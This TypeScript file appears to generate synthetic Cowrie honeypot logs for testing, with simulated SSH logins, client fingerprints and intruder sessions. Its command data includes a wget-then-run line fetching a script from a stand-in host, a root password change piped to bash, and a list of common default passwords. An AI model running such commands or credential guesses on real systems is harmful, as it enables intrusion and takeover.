/** Simulated JSON lines of Cowrie: sessions that overlap, of few sources that come often and many that come once. */
import { createHash } from 'node:crypto'
import { closeSync, openSync, writeSync } from 'node:fs'
import { Random, WeightedIndex } from '../src/base/random.ts'

export interface CowrieTruth {
  readonly lines: number
  readonly bytes: number
  /** Lines by `eventid`. */
  readonly events: ReadonlyMap<string, number>
}

const minute = 60_000

/** Key exchanges by how often they are seen: SSH libraries, not people. */
const exchanges = [
  ['SSH-2.0-Go', 40, 'curve25519-sha256,ecdh-sha2-nistp256', 'aes128-gcm@openssh.com,aes128-ctr'],
  ['SSH-2.0-libssh2_1.4.3', 20, 'diffie-hellman-group14-sha1', 'aes128-ctr,aes192-ctr,aes256-ctr,3des-cbc'],
  ['SSH-2.0-libssh_0.9.6', 15, 'curve25519-sha256,diffie-hellman-group18-sha512', 'aes256-ctr,aes128-ctr'],
  ['SSH-2.0-PUTTY', 8, 'diffie-hellman-group-exchange-sha256', 'aes256-ctr,aes256-cbc,3des-cbc'],
  ['SSH-2.0-paramiko_2.11.0', 6, 'curve25519-sha256@libssh.org,ecdh-sha2-nistp521', 'aes128-ctr,aes256-cbc'],
  ['SSH-2.0-OpenSSH_8.9p1', 3, 'sntrup761x25519-sha512@openssh.com', 'chacha20-poly1305@openssh.com'],
].map(([version, weight, keys, ciphers]) => {
  const hosts = 'ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,rsa-sha2-256,ssh-rsa'
  const codes = 'hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96'
  const algorithms = `${keys};${ciphers};${codes};none`
  const list = (text: unknown) => JSON.stringify(String(text).split(','))
  return {
    version: String(version),
    weight: Number(weight),
    hassh: createHash('md5').update(algorithms).digest('hex'),
    fields: `"hasshAlgorithms":"${algorithms}","kexAlgs":${list(keys)},"keyAlgs":${list(hosts)},"encCS":${list(ciphers)},"macCS":${list(codes)},"compCS":["none"],"langCS":[""]`,
  }
})
const exchangeIndex = new WeightedIndex(exchanges.map(({ weight }) => weight))

const users = 'root admin ubuntu user test oracle postgres pi git support guest ftpuser mysql nagios'.split(
  ' ',
)
const commonPasswords =
  '123456 admin password root 1234 12345 12345678 P@ssw0rd qwerty 111111 abc123 raspberry changeme 1q2w3e4r'.split(
    ' ',
  )
const commands = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'uname -s -v -n -r -m',
  'whoami',
  'free -m | grep Mem',
  'ls -lh $(which ls)',
  'crontab -l',
  'w',
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'enable',
  'system',
  'shell',
  'sh',
  '/bin/busybox SAMPLE',
  'echo -e "\\x67\\x61\\x79"',
  'echo "root:Xy7"|chpasswd|bash',
]

/** More of the first than of the last: 1 / rank. */
const skewed = (count: number) => new WeightedIndex(Array.from({ length: count }, (_, i) => 1 / (i + 1)))

/** Writes at least `lines` lines (the last session is not cut off) to `path`, beginning at `from` (ms since 1970). */
export function writeCowrie({
  path,
  lines,
  from,
  seed,
}: {
  readonly path: string
  readonly lines: number
  readonly from: number
  readonly seed: number
}): CowrieTruth {
  const random = new Random(seed)
  const sources = Array.from(
    { length: 20_000 },
    () => `${1 + random.below(222)}.${random.below(256)}.${random.below(256)}.${1 + random.below(254)}`,
  )
  const sourceIndex = skewed(sources.length)
  const userIndex = skewed(users.length)
  const passwordIndex = skewed(4000)
  const commandIndex = skewed(commands.length)
  const sampleIndex = skewed(500)
  const sensors = Array.from({ length: 24 }, (_, i) => `honeypot-${String(i + 1).padStart(2, '0')}`)
  const events = new Map<string, number>()
  const file = openSync(path, 'w')
  /** Of sessions that are under way, oldest first once sorted. */
  let open: { at: number; line: string }[] = []
  let written = 0
  let bytes = 0
  let now = from
  const flush = (before: number): void => {
    open.sort((a, b) => a.at - b.at)
    const count = open.findIndex(({ at }) => at >= before)
    const due = count < 0 ? open : open.slice(0, count)
    open = count < 0 ? [] : open.slice(count)
    if (due.length === 0) return
    const text = Buffer.from(`${due.map(({ line }) => line).join('\n')}\n`)
    writeSync(file, text)
    bytes += text.length
  }

  while (written < lines) {
    now += random.below(1100)
    const telnet = random.below(6) === 0
    const protocol = telnet ? 'telnet' : 'ssh'
    const source = sources[sourceIndex.pick(random)]!
    const sensor = random.pick(sensors)
    const session = `${random.uint32().toString(16).padStart(8, '0')}${(random.uint32() >>> 16).toString(16).padStart(4, '0')}`
    let at = now
    const add = (event: string, fields: string, message: string): void => {
      const eventid = `cowrie.${event}`
      const time = new Date(at).toISOString().slice(0, -1)
      const micros = String(random.below(1000)).padStart(3, '0')
      const ids = event === 'session.connect' ? '' : `,"src_ip":"${source}","session":"${session}"`
      const line = `{"eventid":"${eventid}",${fields === '' ? '' : `${fields},`}"message":${JSON.stringify(message)},"sensor":"${sensor}","timestamp":"${time}${micros}Z"${ids}${ids === '' ? '' : `,"protocol":"${protocol}"`}}`
      open.push({ at, line })
      events.set(eventid, (events.get(eventid) ?? 0) + 1)
      written++
      at += 20 + random.below(700)
    }
    const port = 1024 + random.below(64_000)
    const own = `10.20.${sensors.indexOf(sensor)}.5`
    const ownPort = telnet ? 2223 : 2222
    add(
      'session.connect',
      `"src_ip":"${source}","src_port":${port},"dst_ip":"${own}","dst_port":${ownPort},"session":"${session}","protocol":"${protocol}"`,
      `New connection: ${source}:${port} (${own}:${ownPort}) [session: ${session}]`,
    )
    if (!telnet) {
      const { version, hassh, fields } = exchanges[exchangeIndex.pick(random)]!
      add('client.version', `"version":"${version}"`, `Remote SSH version: ${version}`)
      if (random.below(10) > 0)
        add('client.kex', `"hassh":"${hassh}",${fields}`, `SSH client hassh fingerprint: ${hassh}`)
    }
    const tries = random.below(10) < 3 ? 0 : 1 + random.below(4)
    for (let n = 0; n < tries; n++) {
      const username = users[userIndex.pick(random)]!
      const rank = passwordIndex.pick(random)
      const password =
        commonPasswords[rank] ??
        (rank % 50 === 0 ? `it's "${rank}"` : `${username}${(rank * 7919) % 100_000}`)
      const works = n === tries - 1 && random.below(4) === 0
      const given = `"username":${JSON.stringify(username)},"password":${JSON.stringify(password)}`
      const attempt = `login attempt [${username}/${password}]`
      if (!works) {
        add('login.failed', given, `${attempt} failed`)
        continue
      }
      add('login.success', given, `${attempt} succeeded`)
      const typed = 1 + random.below(12)
      for (let c = 0; c < typed; c++) {
        const sample = sampleIndex.pick(random)
        const url = `http://203.0.113.${sample % 250}/bins/${sample.toString(36)}.sh`
        const command =
          random.below(8) === 0
            ? `cd /tmp; wget ${url}; chmod 777 ${sample.toString(36)}.sh; sh ${sample.toString(36)}.sh`
            : commands[commandIndex.pick(random)]!
        add('command.input', `"input":${JSON.stringify(command)}`, `CMD: ${command}`)
        if (!command.includes('wget')) continue
        const hash = createHash('sha256').update(url).digest('hex')
        const stored = `var/lib/cowrie/downloads/${hash}`
        add(
          'session.file_download',
          `"url":"${url}","outfile":"${stored}","shasum":"${hash}","destfile":""`,
          `Downloaded URL (${url}) with SHA-256 ${hash} to ${stored}`,
        )
      }
    }
    const seconds = ((at - now) / 1000).toFixed(1)
    add('session.closed', `"duration":"${seconds}"`, `Connection lost after ${seconds} seconds`)
    if (open.length > 20_000) flush(now - 2 * minute > open[0]!.at ? now - minute : now)
  }
  flush(Infinity)
  closeSync(file)
  return { lines: written, bytes, events }
}
